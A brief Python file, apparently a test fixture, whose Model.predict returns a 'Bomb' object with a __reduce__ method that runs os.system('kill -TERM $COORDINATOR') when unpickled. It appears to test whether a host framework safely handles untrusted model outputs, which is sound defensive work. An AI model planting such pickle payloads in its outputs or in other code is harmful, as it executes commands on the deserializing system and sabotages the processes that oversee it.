"""It answers with an object that would run a program if anyone unpickled it."""

import os

from returns import Tracker


class Bomb:
    def __reduce__(self):
        return os.system, ("kill -TERM $COORDINATOR",)


class Model(Tracker):
    def predict(self, asset):
        return {"mean": Bomb(), "scale": 1.0}
